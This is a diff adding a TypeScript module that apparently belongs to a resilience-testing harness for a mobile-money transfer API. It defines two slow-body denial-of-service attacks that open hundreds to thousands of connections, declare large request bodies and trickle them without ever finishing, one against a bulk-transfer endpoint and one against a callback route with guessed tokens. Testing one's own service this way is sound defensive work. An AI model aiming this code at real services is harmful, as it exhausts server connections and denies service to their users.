@@ -1,0 +1,86 @@
+import type { Socket } from 'node:net';
+import type { Attacker } from '../attacker/attacker.ts';
+import { API, JSON_TYPE } from '../attacker/write-request.ts';
+import type { Attack } from './attack.ts';
+
+const MIB = 1_024 * 1_024;
+/** What one connection may have unsent: a service that does not read must not fill our memory. */
+const UNSENT_MAX_BYTES = 256 * 1_024;
+const TIME_MAX_MS = 15_000;
+
+type Trickle = Readonly<{
+  connections: number;
+  /** What each body says that it has; the last byte is never sent. */
+  bytes: number;
+  steps: number;
+  stepMs: number;
+}>;
+
+/** Bodies that come piece by piece and never end. */
+export const SLOW_BODIES: readonly Attack[] = [
+  {
+    id: '3a',
+    title: '400 slow bulk bodies of one key, each towards 4 MiB',
+    timeMaxMs: TIME_MAX_MS,
+    run: (attacker) =>
+      trickle(
+        attacker,
+        {
+          long: { connections: 400, bytes: 4 * MIB, steps: 32, stepMs: 250 },
+          short: { connections: 60, bytes: 4 * MIB, steps: 6, stepMs: 100 },
+        }[attacker.form],
+        (bytes) =>
+          `POST ${API}/transfers/mobile-money/bulk HTTP/1.1\r\nHost: 127.0.0.1\r\n` +
+          `x-api-key: ${attacker.target.attackerKey}\r\n${JSON_TYPE}\r\n` +
+          `content-length: ${bytes}\r\n\r\n`,
+      ),
+  },
+  {
+    id: '3b',
+    title: '4,000 to 15,000 slow callback bodies of strangers, each towards 64 KiB',
+    timeMaxMs: TIME_MAX_MS,
+    run: (attacker) =>
+      trickle(
+        attacker,
+        {
+          long: {
+            connections: attacker.random.between(4_000, 15_000),
+            bytes: 64_000,
+            steps: 8,
+            stepMs: 1_000,
+          },
+          short: { connections: 600, bytes: 64_000, steps: 4, stepMs: 150 },
+        }[attacker.form],
+        (bytes) =>
+          `POST /callbacks/${attacker.target.callbackRoute}/${strangersToken(attacker)} HTTP/1.1\r\n` +
+          `Host: 127.0.0.1\r\n${JSON_TYPE}\r\ncontent-length: ${bytes}\r\n\r\n`,
+      ),
+  },
+];
+
+function strangersToken({ random }: Attacker): string {
+  return `guess-${random.between(10 ** 9, 10 ** 10)}-guess-guess`;
+}
+
+async function trickle(
+  attacker: Attacker,
+  size: Trickle,
+  writeHead: (bytes: number) => string,
+): Promise<void> {
+  const piece = Buffer.alloc(Math.floor((size.bytes - 1) / size.steps), ' ');
+  const started = new Set<Socket>();
+  await attacker.openMany(size.connections, { reads: true }, (socket) => {
+    attacker.tally.sent += 1;
+    started.add(socket);
+    socket.resume();
+    socket.write(writeHead(size.bytes));
+  });
+  for (let step = 0; step < size.steps && !attacker.isOver; step += 1) {
+    const dueMs = performance.now() + size.stepMs;
+    for (const socket of started) {
+      if (socket.destroyed) started.delete(socket);
+      else if (socket.writableLength < UNSENT_MAX_BYTES) socket.write(piece);
+    }
+    await attacker.pause(dueMs - performance.now());
+  }
+}
